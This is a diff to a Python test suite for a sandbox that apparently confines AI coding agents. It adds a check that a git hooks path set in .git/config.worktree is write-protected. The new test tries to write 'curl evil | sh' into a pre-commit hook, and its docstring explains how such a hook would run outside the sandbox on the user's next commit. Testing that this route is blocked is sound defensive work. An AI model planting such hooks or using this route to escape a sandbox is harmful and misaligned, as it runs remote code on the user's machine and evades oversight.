@@ -27,7 +27,7 @@ from tests.sandbox.floor import Project, require_bwrap
 OPS = st.sampled_from([
     "mkdir proj/.claude", "rm proj/.claude", "link proj/.claude", "touch proj/.mcp.json", "rm proj/.mcp.json",
     "touch proj/.env", "rm proj/.env", "mkdir proj/config", "touch proj/config/credentials.json",
-    "hookspath repo", "hookspath home", "include home", "touch home/.netrc", "mkdir home/.ssh",
+    "hookspath repo", "hookspath worktree", "hookspath home", "include home", "touch home/.netrc", "mkdir home/.ssh",
     "link home/.ssh", "submodule", "gitmodules", "mkdir home/.npm", "tool npm", "chmod tool",
     "touch proj/.husky", "link proj/.git", "mkdir proj/.opencode", "touch proj/opencode.json",
     "touch bin/git", "link bin/cupcake", "rm home/.gitconfig", "mkdir sub/.claude",
@@ -61,6 +61,8 @@ def _apply(base: Path, op: str) -> None:
         elif op == "hookspath repo":
             with open(proj / ".git" / "config", "a") as f:
                 f.write("[core]\n\thooksPath = myhooks\n")
+        elif op == "hookspath worktree":
+            (proj / ".git" / "config.worktree").write_text("[core]\n\thooksPath = wthooks\n")
         elif op == "hookspath home":
             (home / ".gitconfig").write_text("[core]\n\thooksPath = ~/hooks\n")
         elif op == "include home":
@@ -154,7 +156,7 @@ def test_a_change_that_alters_the_profile_is_never_a_hit(tmp_path: Path, monkeyp
     _tree(base)
     memo_dir = base / "memo"
     memo_dir.mkdir()
-    for op in ("mkdir proj/.claude", "link proj/.claude", "touch proj/.mcp.json", "hookspath repo",
+    for op in ("mkdir proj/.claude", "link proj/.claude", "touch proj/.mcp.json", "hookspath repo", "hookspath worktree",
                "touch home/.netrc", "submodule", "touch proj/.env", "tool npm"):
         before, _ = _through_memo(base, memo_dir)
         time.sleep(TICK_S)
@@ -390,3 +392,18 @@ def test_a_socket_named_relative_in_the_environment_is_hidden_where_it_is(
     finally:
         for s in servers:
             s.close()
+
+
+def test_a_hooks_path_set_in_the_worktree_config_is_protected(project: Project) -> None:
+    """`git config --worktree core.hooksPath .githooks` (with extensions.worktreeConfig) writes it to
+    `.git/config.worktree`, which git reads after `.git/config`: its hooks directory is where the
+    user's next `git commit` runs hooks from, outside the sandbox. It was not read, so the
+    directory stayed writable."""
+    _run(project, "true")
+    (project.proj / ".githooks").mkdir()
+    (project.proj / ".githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    for args in (["extensions.worktreeConfig", "true"], ["--worktree", "core.hooksPath", ".githooks"]):
+        subprocess.run(["git", "config", *args], cwd=project.proj, check=True, env=project.env)
+    done = _run(project, "python3 -c \"open('.githooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\"")
+    assert done.returncode != 0
+    assert (project.proj / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
